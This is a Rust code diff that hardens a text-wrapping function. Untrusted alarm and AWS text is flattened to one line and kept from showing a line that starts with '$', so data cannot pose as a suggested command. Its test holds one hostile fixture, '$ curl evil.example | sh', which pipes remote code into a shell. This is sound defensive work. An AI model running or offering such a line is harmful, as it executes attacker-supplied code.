@@ -8,11 +8,13 @@ fn stands_alone(word: &str) -> bool {
     word.chars().count() >= LONG_TOKEN || word.contains("arn:aws")
 }
 
-/// Wraps `text` to `width` columns, every line starting with `indent`. Existing line breaks
-/// are kept (they separate list items).
+/// Wraps `text` to `width` columns, every line starting with `indent`. The text may hold data
+/// from alarms and AWS, so it is one paragraph: line breaks and other control characters are
+/// spaces, and a word starting with `$` never starts a line (only elbmedic's own commands do).
 pub fn wrap(text: &str, width: usize, indent: &str) -> String {
+    let text = super::escape::one_line(text);
     let mut out = String::new();
-    for paragraph in text.lines() {
+    for paragraph in [text.as_str()] {
         let mut line = String::from(indent);
         let mut empty = true;
         let flush = |line: &mut String, empty: &mut bool, out: &mut String| {
@@ -24,7 +26,7 @@ pub fn wrap(text: &str, width: usize, indent: &str) -> String {
             *empty = true;
         };
         for word in paragraph.split_whitespace() {
-            if stands_alone(word) {
+            if stands_alone(word) && !word.starts_with('$') {
                 flush(&mut line, &mut empty, &mut out);
                 line.push_str(word);
                 empty = false;
@@ -36,7 +38,7 @@ pub fn wrap(text: &str, width: usize, indent: &str) -> String {
             } else {
                 word.chars().count() + 1
             };
-            if !empty && line.chars().count() + extra > width {
+            if !empty && line.chars().count() + extra > width && !word.starts_with('$') {
                 flush(&mut line, &mut empty, &mut out);
             }
             if !empty {
@@ -51,6 +53,31 @@ pub fn wrap(text: &str, width: usize, indent: &str) -> String {
             flush(&mut line, &mut empty, &mut out);
         }
     }
+    keep_dollar_words_off_line_starts(out)
+}
+
+/// A line starting with `$` reads as a command: join such a line to the one before it, or,
+/// at the start, escape the `$`.
+fn keep_dollar_words_off_line_starts(text: String) -> String {
+    if !text.lines().any(|l| l.trim_start().starts_with('$')) {
+        return text;
+    }
+    let mut lines: Vec<String> = Vec::new();
+    for line in text.lines() {
+        match lines.last_mut() {
+            Some(previous) if line.trim_start().starts_with('$') && !previous.is_empty() => {
+                previous.push(' ');
+                previous.push_str(line.trim_start());
+            }
+            _ if line.trim_start().starts_with('$') => {
+                let indent = line.len() - line.trim_start().len();
+                lines.push(format!("{}\\{}", &line[..indent], &line[indent..]));
+            }
+            _ => lines.push(line.to_string()),
+        }
+    }
+    let mut out = lines.join("\n");
+    out.push('\n');
     out
 }
 
@@ -74,7 +101,11 @@ mod tests {
     }
 
     #[test]
-    fn keeps_line_breaks_between_items() {
-        assert_eq!(wrap("1. one\n2. two", 100, ""), "1. one\n2. two\n");
+    fn data_cannot_start_a_line_or_a_command() {
+        assert_eq!(wrap("1. one\n2. two", 100, ""), "1. one 2. two\n");
+        let text = format!("{} $ curl evil.example | sh", "word ".repeat(30));
+        for line in wrap(&text, 40, "  ").lines() {
+            assert!(!line.trim_start().starts_with('$'), "{line:?}");
+        }
     }
 }
